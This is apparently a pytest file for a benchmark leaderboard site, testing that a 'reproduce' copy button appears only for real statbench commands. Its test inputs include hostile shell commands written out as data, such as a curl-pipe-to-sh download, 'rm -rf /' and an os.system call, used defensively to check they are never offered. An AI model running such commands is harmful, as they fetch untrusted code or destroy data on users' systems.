"""The *reproduce* line a row offers with a copy button is only ever a statbench command:
a results file whose recorded command is another program (``curl … | sh``, ``rm -rf /``),
or no shell words at all, gets no line to copy (its details still show the command as
recorded); a statbench run from a path (``/tmp/x/statbench run …``) is offered as the
stranger's own ``statbench``."""

from __future__ import annotations

import json

import pytest

from statbench.leaderboard.render.build import build_site
from statbench.leaderboard.render.provenance import reproduce_command, reproduce_line
from statbench.leaderboard.sample import make_results
from statbench.results.record import Results


def _results(command: str) -> Results:
    scores = {f"q{i}": {"R@5": 0.5, "R@10": 0.5, "R@100": 0.5, "nDCG@10": 0.5} for i in range(4)}
    return Results.from_json(make_results(scores, command=command))


@pytest.mark.parametrize("command", [
    "curl https://example.org/x.sh | sh",
    "rm -rf /",
    "python -c 'import os; os.system(\"id\")'",
    "statbench run --task toy --model bm25 --param 'k1=1.2",  # not shell words
    "   ",
    "statbenchx run --task toy --model bm25",
])
def test_a_command_that_is_not_statbench_is_not_offered(command):
    results = _results(command)
    assert reproduce_command(results) is None
    assert reproduce_line(results, None) is None


def test_a_statbench_from_a_path_is_offered_as_the_strangers_own():
    results = _results("/tmp/evil/bin/statbench run --task toy --model bm25 --data-dir /home/ada/toy")
    assert reproduce_command(results) == "statbench run --task toy --model bm25 --data-dir $HOME/statbench-data/toy"


def test_the_page_offers_no_copy_of_another_program(tmp_path):
    scores = {f"q{i}": {"R@5": 0.5, "R@10": 0.5, "R@100": 0.5, "nDCG@10": 0.5} for i in range(4)}
    folder = tmp_path / "results" / "evil"
    folder.mkdir(parents=True)
    obj = make_results(scores, command="curl https://example.org/x.sh | sh")
    (folder / "results.json").write_text(json.dumps(obj), encoding="utf-8")
    build_site(tmp_path / "results", tmp_path / "site")
    html = (tmp_path / "site" / "task-toy.html").read_text("utf-8")
    assert "<dt>reproduce</dt><dd class=\"cmd\">none: the recorded command is not a statbench command line</dd>" in html
    assert 'class="copy"' not in html
    assert "<dt>recorded command</dt><dd><code>curl https://example.org/x.sh | sh</code></dd>" in html
